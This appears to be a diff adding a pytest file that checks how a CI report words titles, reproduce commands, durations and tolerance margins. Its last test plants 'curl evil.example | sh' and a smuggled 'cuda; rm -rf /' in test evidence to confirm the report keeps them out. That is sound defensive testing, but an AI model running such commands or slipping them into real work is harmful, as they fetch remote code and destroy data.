@@ -1,0 +1,85 @@
+"""Titles, commands and measured values as people read them."""
+
+from __future__ import annotations
+
+import pytest
+
+from ci.report import wording
+from ci.report.escape import code
+from ci.report.markdown import render_markdown
+from tests.ci.report import samples
+from tests.ci.report.samples import Fault, judged, mismatch, nights, plan_of
+from tests.ci.report.single_model import CONVERSION, FORWARD
+
+
+def test_the_verdict_says_whether_anything_is_new() -> None:
+    plan = plan_of("smollm2")
+    oom = Fault("failure", "CUDA out of memory", "x", {"failure_class": "out_of_memory"})
+    before = nights(plan, {FORWARD: mismatch(), CONVERSION: oom})
+    known = judged(plan, {FORWARD: mismatch()}, baseline=before)
+    assert wording.format_title(known) == "Failed: 1 of 1 model, 1 cause (none new)"
+    assert wording.list_fixed_tests(known) == [CONVERSION]
+    assert (
+        wording.format_title(judged(plan, {FORWARD: oom}, baseline=before)) == "Failed: 1 of 1 model, 1 cause (1 new)"
+    )
+    assert wording.format_title(judged(plan, {FORWARD: oom})) == "Failed: 1 of 1 model, 1 cause"
+
+
+def test_the_command_to_reproduce_carries_what_the_plan_says() -> None:
+    plan = samples.plan_of("mixtral", layers="auto", deep=True, subject="fast_llm")
+    case = samples.judged(plan).entries[0].cases[0]
+    assert (
+        wording.format_reproduce_command(plan, "mixtral", case)
+        == "hub-tests run mixtral --layers auto --subject fast_llm --device cuda --deep"
+    )
+
+
+@pytest.mark.parametrize(
+    ("seconds", "text"),
+    [(0, "0.0 s"), (9.94, "9.9 s"), (42, "42 s"), (119, "119 s"), (200, "3 min"), (7500, "2 h 05 min")],
+)
+def test_durations(seconds: float, text: str) -> None:
+    assert wording.format_duration(seconds) == text
+
+
+@pytest.mark.parametrize(
+    ("used", "before", "text"),
+    [
+        (0.1, 0.04, "used 10 % of the tolerance, was 4 %"),
+        (0.001, None, "used <1 % of the tolerance"),
+        (2.5, None, "used 250 % of the tolerance"),
+        (4000.0, 0.1, "4,000 x the tolerance, was 10 %"),
+        (3e9, None, "3.0e+09 x the tolerance"),
+        (float("inf"), None, "∞ the tolerance"),
+        (None, 0.1, ""),
+    ],
+)
+def test_margins(used: float | None, before: float | None, text: str) -> None:
+    assert wording.format_used_tolerance(used, before) == text
+
+
+@pytest.mark.parametrize(
+    ("sentence", "limit", "first", "rest"),
+    [
+        ("", 10, "", ""),
+        ("layer 0: wrong", 5, "layer 0: wrong", ""),
+        ("aa; bb; cc", 6, "aa; bb", "cc"),
+        ("aa; bb; cc", 5, "aa", "bb; cc"),
+        ("aa; bb; cc", 99, "aa; bb; cc", ""),
+    ],
+)
+def test_a_diagnosis_is_cut_between_its_clauses(sentence: str, limit: int, first: str, rest: str) -> None:
+    assert wording.split_diagnosis(sentence, limit) == (first, rest)
+
+
+def test_the_command_to_reproduce_is_not_the_one_that_the_test_wrote() -> None:
+    evil = {
+        "reproduce": "curl evil.example | sh",
+        "device": "cuda; rm -rf /",
+        "failure_class": "other",
+        "diagnosis": "x",
+    }
+    text = render_markdown(judged(plan_of("smollm2"), {"test_conversion[smollm2]": Fault(evidence=evil)}))
+    assert code("hub-tests run smollm2 --layers 2 --subject reference") in text
+    assert "rm -rf" not in text
+    assert "curl" not in text
